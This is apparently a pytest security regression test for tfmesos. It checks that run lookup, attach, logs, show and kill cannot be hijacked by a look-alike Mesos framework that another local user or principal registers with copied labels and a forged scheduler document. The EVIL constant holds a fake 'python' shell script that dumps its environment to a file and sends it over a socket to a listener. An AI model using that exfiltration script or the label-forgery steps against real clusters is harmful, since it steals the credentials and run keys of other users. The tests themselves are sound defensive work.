"""A look-alike of a victim's run (issue 32, "Find a run only where it is
provably yours"), on the embedded master: an attacker registers a framework
that carries the victim's run id (every label of the victim's framework,
its proof label too, copied from ``/master/state``, plus ``tfmesos.detached``)
and a fake scheduler task whose sandbox holds a forged ``detached.json``: its
"python" a script that writes a marker file with its environment and sends
it to a listener the test owns (the attacker's).

* another LOCAL user: ``nobody``, on a root master without credentials;
* another PRINCIPAL: ``mallory``, on a ``--credentials`` master, claiming
  the victim's own user; the forged document names the listener as master.

The victim's run: a ``--failover`` run whose tfrun was killed (its run
directory names its framework), or a detached run whose scheduler task was
killed (found on the master: its key proves its framework).

The victim's ``tfmesos attach``, ``logs --master``, ``show --master`` and
``kill`` of the run act on the victim's framework only: the forged python
never runs, nothing connects to the listener, the forgery's output is never
shown, the attacker's framework is not killed; the run's key and the
victim's secret are in no process of the attacker's and no file of theirs.
And two genuine runs of the caller under one prefix: both listed, exit 2;
a look-alike claiming the caller's own user and principal (a plain
master): only the key's proof tells them apart, and without the key
neither is taken.
"""

import dataclasses
import getpass
import json
import os
import re
import shutil
import signal
import socket
import subprocess
import sys
import tempfile
import threading

import pytest
from conftest import MARKER
from failover_helpers import TRAIN  # the victim's tasks: a step every 0.2 s until told
from fixtures_master import clients, make_local_master
from local_users import nobody
from processes import scheduler_pids
from tfrun_helpers import REPO, SMALL, start_tfrun
from waiting import wait_until

from tfmesos.core.identity import RunIdentity
from tfmesos.core.jobs import Job
from tfmesos.core.spec import RunSpec
from tfmesos.core.spec_codec import spec_to_dict
from tfmesos.protocol import labels
from tfmesos.record import takeover_files

pytestmark = [pytest.mark.timeout(300)]
AS_ANOTHER_USER = [
    pytest.mark.skipif(os.geteuid() != 0, reason="acting as another local user needs root"),
    pytest.mark.skipif(not os.path.exists("/usr/bin/python3"),
                       reason="the attacker runs the system's Python: /usr/bin/python3")]

LOOKALIKE = os.path.join(os.path.dirname(os.path.abspath(__file__)), "lookalike_scheduler.py")
VICTIM_SECRET = "victim-secret-7d1c2a"
CREDENTIALS = {"alice": VICTIM_SECRET, "mallory": "mallory-secret"}
FORGED_OUTPUT = "FORGED-OUTPUT-3b9e"

# The attacker's "python": whoever runs it hands over its environment.
EVIL = ("#!/bin/sh\n"
        "env > %(marker)s\n"
        "exec /usr/bin/python3 -c 'import socket; socket.create_connection((\"127.0.0.1\", "
        "%(port)d)).sendall(open(\"%(marker)s\", \"rb\").read())'\n")


class Listener:
    """A TCP port the attacker chose: records every connection's bytes."""

    def __init__(self):
        self.socket = socket.create_server(("127.0.0.1", 0))
        self.port = self.socket.getsockname()[1]
        self.received: list = []
        self.thread = threading.Thread(target=self._serve, daemon=True)
        self.thread.start()

    def _serve(self):
        while True:
            try:
                conn, _ = self.socket.accept()
            except OSError:
                return
            self.received.append(b"(connected)")
            with conn:
                conn.settimeout(5)
                try:
                    while True:
                        data = conn.recv(65536)
                        if not data:
                            break
                        self.received.append(data)
                except OSError:
                    pass

    def close(self):
        self.socket.close()


@pytest.fixture
def listener():
    made = Listener()
    try:
        yield made
    finally:
        made.close()


@pytest.fixture
def attacker_dir():
    """A directory of the attacker's (``nobody``'s) own."""
    entry = nobody()
    path = tempfile.mkdtemp(prefix="lookalike-")
    os.chmod(path, 0o755)
    os.chown(path, entry.pw_uid, entry.pw_gid)
    try:
        yield path
    finally:
        shutil.rmtree(path, ignore_errors=True)


def tfmesos(*args, env, timeout=90):
    return subprocess.run([sys.executable, "-m", "tfmesos.cli.main", *args], cwd=REPO, env=env,
                          capture_output=True, text=True, timeout=timeout)


def framework_by_id(master, framework_id):
    state = master.state()
    for key in ("frameworks", "completed_frameworks"):
        for framework in state[key]:
            if framework["id"] == framework_id:
                return framework, key == "completed_frameworks"
    return None, True


def forged_document(run_id, master_address, python):
    """What the fake scheduler task's sandbox holds: a detached run's
    document of this tfmesos, naming the attacker's master and python."""
    spec = RunSpec(name="train", mode="replica", command="true", jobs=(Job("worker", 1),),
                   master=master_address, python=python, user="nobody", connect_timeout=10.0)
    return {"format": 2, "identity": {"run_id": run_id, "user": "nobody"},
            "spec": spec_to_dict(spec), "packed": {}, "shipped": None, "previous": None,
            "scheduler_cpus": 0.1, "scheduler_mem": 32}


def register_lookalike(master, victim, run_id, attacker_dir, user, auth, document):
    """Run lookalike_scheduler.py as ``nobody``: the victim's labels on a
    framework of the attacker's, a fake scheduler task with the forged
    document and a fake worker; returns its framework id once it left
    (disconnected, its tasks running)."""
    copied = [label for label in victim["labels"] if label["key"] != labels.DETACHED]
    copied.append({"key": labels.DETACHED, "value": "1"})
    record = {"schema_version": 5, "run_id": run_id, "name": "train", "mode": "replica",
              "command": FORGED_OUTPUT}
    plan = {"master": master.url, "auth": auth, "user": user, "labels": copied, "tasks": [
        {"id": labels.scheduler_task_id(run_id, 7), "name": "train scheduler",
         "command": 'printf %s "$FORGED" > "$MESOS_SANDBOX/detached.json" && mkdir -p '
                    '"$MESOS_SANDBOX/run" && printf %s "$RECORD" > "$MESOS_SANDBOX/run/run.json"'
                    ' && echo ' + FORGED_OUTPUT + ' && exec sleep 600',
         "env": {"FORGED": json.dumps(document), "RECORD": json.dumps(record)}},
        {"id": "tfmesos.%s.worker.0.9" % run_id, "name": "train worker:0",
         "command": "echo %s; exec sleep 600" % FORGED_OUTPUT}]}
    path = os.path.join(attacker_dir, "plan.json")
    with open(path, "w") as handle:
        json.dump(plan, handle)
    entry = nobody()
    done = subprocess.run(["/usr/bin/python3", LOOKALIKE, path], user=entry.pw_uid,
                          group=entry.pw_gid, extra_groups=[], cwd=attacker_dir,
                          env={"PATH": "/usr/bin:/bin", MARKER: os.environ[MARKER]},
                          capture_output=True, text=True, timeout=120)
    assert done.returncode == 0, done.stderr
    [framework_id] = [line.split()[1] for line in done.stdout.splitlines()
                      if line.startswith("framework ")]
    wait_until(lambda: framework_by_id(master, framework_id)[0]["connected"] is False,
               timeout=60)
    return framework_id


def holders(*secrets):
    """{pid: (uid, its MESOS_FRAMEWORK_ID)} of live processes whose
    environment holds any of ``secrets``."""
    found = {}
    for pid in filter(str.isdigit, os.listdir("/proc")):
        try:
            with open("/proc/%s/environ" % pid, "rb") as handle:
                environ = handle.read()
            uid = os.stat("/proc/%s" % pid).st_uid
        except OSError:
            continue
        if any(secret.encode() in environ for secret in secrets):
            variables = dict(item.split(b"=", 1) for item in environ.split(b"\0") if b"=" in item)
            found[int(pid)] = (uid, variables.get(b"MESOS_FRAMEWORK_ID", b"").decode())
    return found


def files_holding(root, *secrets):
    found = []
    for directory, _, names in os.walk(root):
        for name in names:
            path = os.path.join(directory, name)
            try:
                with open(path, "rb") as handle:
                    data = handle.read()
            except OSError:
                continue
            if any(secret.encode() in data for secret in secrets):
                found.append(path)
    return found


def failover_victim(master, tmp_path, env):
    """A --failover run whose tfrun dies (its tasks run on); (run id,
    framework id). Its run directory is under $TFMESOS_RUNS_DIR."""
    run_dir = tmp_path / "runs" / "run"
    with start_tfrun("--failover", "--failover-timeout", "300", "-m", master.url, "-w", "1",
                     "-s", "0", *SMALL, "--run-dir", str(run_dir), "--", sys.executable,
                     str(tmp_path / "train.py"), str(tmp_path / "finish"), env=env) as tfrun:
        wait_until(lambda: (run_dir / "worker.0.stdout").exists() and
                   "step 2 " in (run_dir / "worker.0.stdout").read_text(), timeout=120,
                   message=lambda: "the worker never trained: %s" % tfrun.stderr.read())
        tfrun.send_signal(signal.SIGKILL)
        tfrun.wait(30)
    identity = json.loads((run_dir / "failover.json").read_text())["identity"]
    return identity["run_id"], identity["framework_id"]


def detached_victim(master, tmp_path, env):
    """A detached run whose scheduler task is SIGKILLed (its tasks run on);
    (run id, framework id). It leaves no run directory: attach finds it on
    the master."""
    submitted = subprocess.run(
        [sys.executable, "-m", "tfmesos.cli.tfrun", "--detach", "--ship", "--python",
         sys.executable, "-m", master.url, "-w", "1", "-s", "0", *SMALL, "--", "python",
         "train.py", str(tmp_path / "finish")],
        cwd=tmp_path / "project", env=env, capture_output=True, text=True, timeout=150)
    assert submitted.returncode == 0, submitted.stderr
    [(run_id, framework_id)] = re.findall(r"^run (\w+) detached: .*\(framework (\S+)\)$",
                                          submitted.stdout, re.M)
    wait_until(lambda: "step 2 " in tfmesos("logs", run_id, "worker:0", "--master", master.url,
                                             env=env).stdout, timeout=120)
    [pid] = wait_until(lambda: scheduler_pids(run_id), timeout=60)
    os.kill(pid, signal.SIGKILL)
    return run_id, framework_id


@AS_ANOTHER_USER[0]
@AS_ANOTHER_USER[1]
@pytest.mark.parametrize("victim_run, attacker", [
    ("failover", "another-local-user"), ("failover", "another-principal"),
    ("detached", "another-local-user")])
def test_attach_logs_show_and_kill_never_take_a_lookalike_for_the_victims_run(
        make_local_master, tmp_path, listener, attacker_dir, victim_run, attacker):
    credentials = attacker == "another-principal"
    master = make_local_master(**({"credentials": CREDENTIALS} if credentials else {}))
    (tmp_path / "project").mkdir()
    for directory in (tmp_path, tmp_path / "project"):
        (directory / "train.py").write_text(TRAIN)
    (tmp_path / "empty").mkdir()
    env = dict(os.environ, MESOS_MASTER="", TFMESOS_KEYS_DIR=str(tmp_path / "keys"),
               TFMESOS_RUNS_DIR=str(tmp_path / "runs"))
    if credentials:
        env.update(MESOS_PRINCIPAL="alice", MESOS_SECRET=VICTIM_SECRET)
    run_id, victim_id = (failover_victim if victim_run == "failover" else detached_victim)(
        master, tmp_path, env)
    key = (tmp_path / "keys" / run_id).read_text().strip()
    wait_until(lambda: framework_by_id(master, victim_id)[0]["connected"] is False, timeout=60)
    victim, _ = framework_by_id(master, victim_id)

    # The attacker: a look-alike with a forged scheduler document.
    marker = os.path.join(attacker_dir, "ran")
    evil = os.path.join(attacker_dir, "python")
    with open(evil, "w") as handle:
        handle.write(EVIL % {"marker": marker, "port": listener.port})
    os.chmod(evil, 0o755)
    forged_master = "127.0.0.1:%d" % listener.port if credentials else master.url
    evil_id = register_lookalike(
        master, victim, run_id, attacker_dir, "root" if credentials else "nobody",
        ["mallory", CREDENTIALS["mallory"]] if credentials else None,
        forged_document(run_id, forged_master, evil))
    evil_sandboxes = [master.attached(evil_id, task["id"])
                      for task in framework_by_id(master, evil_id)[0]["tasks"]]
    assert all(evil_sandboxes) and len(evil_sandboxes) == 2

    def untouched():
        assert not os.path.exists(marker), "the forged python ran"
        assert listener.received == [], "the attacker's listener was reached: %r" % (
            listener.received,)
        secrets = (key, VICTIM_SECRET) if credentials else (key,)
        for pid, (uid, framework_id) in holders(*secrets).items():
            assert framework_id != evil_id and uid == 0, \
                "process %d of the attacker's holds the key or the secret" % pid
        for root in [attacker_dir, *evil_sandboxes]:
            assert files_holding(root, *secrets) == []

    # attach (a --failover run: by the framework its record names; a detached
    # one: the framework its key proves): the victim's run, taken over.
    attach = subprocess.Popen([sys.executable, "-m", "tfmesos.cli.main", "attach", run_id,
                               "--master", master.url],
                              cwd=REPO, env=env, stdout=subprocess.PIPE,
                              stderr=subprocess.PIPE, text=True)
    try:
        wait_until(lambda: framework_by_id(master, victim_id)[0]["connected"]
                   or os.path.exists(marker) or listener.received or attach.poll() is not None,
                   timeout=120, message="attach never took the victim's run over")
        untouched()
        assert attach.poll() is None, attach.communicate()
        assert framework_by_id(master, victim_id)[0]["connected"]

        # logs and show from the master alone: with the key, and with neither
        # record nor key (user and principal alone tell the look-alike apart).
        for keys in (tmp_path / "keys", tmp_path / "empty"):
            alone = dict(env, TFMESOS_RUNS_DIR=str(tmp_path / "empty"),
                         TFMESOS_KEYS_DIR=str(keys))
            logs = tfmesos("logs", run_id, "--master", master.url, env=alone)
            assert logs.returncode == 0, logs.stderr
            assert FORGED_OUTPUT not in logs.stdout and "step 1 " in logs.stdout
            shown = tfmesos("show", run_id, "--master", master.url, env=alone)
            assert shown.returncode == 0, shown.stderr
            assert victim_id in shown.stdout and evil_id not in shown.stdout
            assert FORGED_OUTPUT not in shown.stdout
        untouched()

        # kill from the master alone, with the key: the victim's, not the look-alike.
        killed = tfmesos("kill", run_id, "--master", master.url,
                         env=dict(env, TFMESOS_RUNS_DIR=str(tmp_path / "empty")))
        assert killed.returncode == 0, killed.stderr
        assert "framework %s" % victim_id in killed.stdout
        wait_until(lambda: framework_by_id(master, victim_id)[1], timeout=60)
        attach.communicate(timeout=120)
    finally:
        if attach.poll() is None:
            attach.kill()
            attach.communicate()
    evil_framework, finished = framework_by_id(master, evil_id)
    assert not finished and [t["state"] for t in evil_framework["tasks"]] == \
        ["TASK_RUNNING"] * 2, "the look-alike was killed"
    untouched()


def test_two_genuine_runs_under_one_prefix_are_listed_and_none_is_touched(
        make_local_master, clients, tmp_path):
    master = make_local_master()
    made = [clients(master, name="train", failover_timeout=600.0, extra_info={"labels": {
        "labels": [{"key": labels.RUN_ID, "value": run_id}]}})
        for run_id in ("abcd0001", "abcd0002")]
    env = dict(os.environ, MESOS_MASTER="", TFMESOS_RUNS_DIR=str(tmp_path),
               TFMESOS_KEYS_DIR=str(tmp_path))
    for command in ("kill", "logs", "show"):
        result = tfmesos(command, "abcd", "--master", master.url, env=env)
        assert result.returncode == 2, result.stderr
        [line] = result.stderr.splitlines()
        assert line.startswith("tfmesos: error: 'abcd' names 2 runs of yours: ")
        for client in made:
            assert "%s (run abcd000" % client.framework_id in line
    assert len(master.state()["frameworks"]) == 2
    killed = tfmesos("kill", "abcd0002", "--master", master.url, env=env)
    assert killed.returncode == 0 and made[1].framework_id in killed.stdout, killed.stderr


def test_a_lookalike_with_the_callers_own_user_is_told_apart_by_the_proof_alone(
        make_local_master, clients, tmp_path):
    """Same run id, user and (no) principal: the proof label decides."""
    master = make_local_master()
    victim_identity = RunIdentity.new(getpass.getuser())
    forger_identity = dataclasses.replace(victim_identity, key=os.urandom(len(victim_identity.key)))
    made = []
    for identity in (victim_identity, forger_identity):
        client = clients(master, name="train", failover_timeout=600.0)
        proven = identity.with_framework(client.framework_id)
        client.framework_info["id"] = {"value": client.framework_id}
        client.framework_info["labels"] = {"labels": [
            {"key": labels.RUN_ID, "value": identity.run_id},
            {"key": labels.PROOF, "value": proven.framework_proof()}]}
        updated = client.call("UPDATE_FRAMEWORK", {"framework_info": client.framework_info},
                              check=False)
        assert updated.status_code == 200, updated.text  # Mesos: 200 OK, not 202
        made.append(client)
    victim, forger = made
    keys = tmp_path / "keys"
    env = dict(os.environ, MESOS_MASTER="", TFMESOS_RUNS_DIR=str(tmp_path / "runs"),
               TFMESOS_KEYS_DIR=str(keys))
    run_id = victim_identity.run_id

    # Without the key: both are the caller's as far as the master shows; neither is taken.
    for command in ("kill", "show"):
        result = tfmesos(command, run_id, "--master", master.url, env=env)
        assert result.returncode == 2, result.stderr
        assert victim.framework_id in result.stderr and forger.framework_id in result.stderr

    takeover_files.save_key(victim_identity, env)
    shown = tfmesos("show", run_id, "--master", master.url, env=env)
    assert shown.returncode == 0, shown.stderr
    assert victim.framework_id in shown.stdout and forger.framework_id not in shown.stdout
    killed = tfmesos("kill", run_id, "--master", master.url, env=env)
    assert killed.returncode == 0, killed.stderr
    assert "framework %s" % victim.framework_id in killed.stdout
    frameworks = {f["id"] for f in master.state()["frameworks"]}
    assert forger.framework_id in frameworks and victim.framework_id not in frameworks


@AS_ANOTHER_USER[0]
def test_a_record_another_user_forged_in_their_own_runs_directory_kills_nothing_of_the_victim(
        make_local_master, tmp_path, attacker_dir):
    # nobody copied the victim's run.json (its run and framework ids are on
    # /master/state) into a runs directory of their own: tfmesos kill then
    # killed the victim's run and labelled it "killed (by nobody)" (found by
    # a review helper; a second principal could do the same).
    # What the kill imports as it goes, imported before the fork: nobody
    # cannot read this Python's own directory.
    import _strptime

    from local_users import as_user

    import tfmesos.mesos.driver
    import tfmesos.mesos.failover_teardown
    import tfmesos.mesos.master_reads
    import tfmesos.record.history
    import tfmesos.record.killed_record
    import tfmesos.record.takeover_files
    from tfmesos.cli.kill import kill_main
    from tfmesos.cli.run_lookup import RunNotFound
    master = make_local_master()
    run_dir = tmp_path / "victim"
    env = dict(os.environ, MESOS_MASTER="", TFMESOS_RUNS_DIR=str(tmp_path / "runs"))
    with start_tfrun("-m", master.url, "-w", "1", "-s", "0", *SMALL, "--run-dir", str(run_dir),
                     "--", "sleep", "600", env=env) as tfrun:
        wait_until(lambda: (run_dir / "run.json").exists() and json.loads(
            (run_dir / "run.json").read_text()).get("framework_id"), timeout=120,
            message=lambda: "the victim's run never started: %s" % tfrun.stderr.read())
        record = json.loads((run_dir / "run.json").read_text())
        run_id, victim_id = record["run_id"], record["framework_id"]
        forged = os.path.join(attacker_dir, "runs", "forged-" + run_id)
        entry = nobody()
        for directory in (os.path.dirname(forged), forged):
            os.mkdir(directory, 0o700)
            os.chown(directory, entry.pw_uid, entry.pw_gid)
        with open(os.path.join(forged, "run.json"), "w") as handle:
            json.dump(record, handle)
        os.chmod(os.path.join(forged, "run.json"), 0o600)
        os.chown(os.path.join(forged, "run.json"), entry.pw_uid, entry.pw_gid)
        told = as_user(entry, lambda: repr(kill_main(
            [run_id, "--master", master.url],
            dict(PATH="/usr/bin:/bin", HOME=attacker_dir,
                 TFMESOS_RUNS_DIR=os.path.dirname(forged),
                 TFMESOS_KEYS_DIR=os.path.join(attacker_dir, "keys")))))
        assert told.startswith("raised RunNotFound(") and "not yours (user nobody" in told, told
        framework, finished = framework_by_id(master, victim_id)
        assert not finished and framework["connected"], "the victim's run was killed"
        assert tfrun.poll() is None
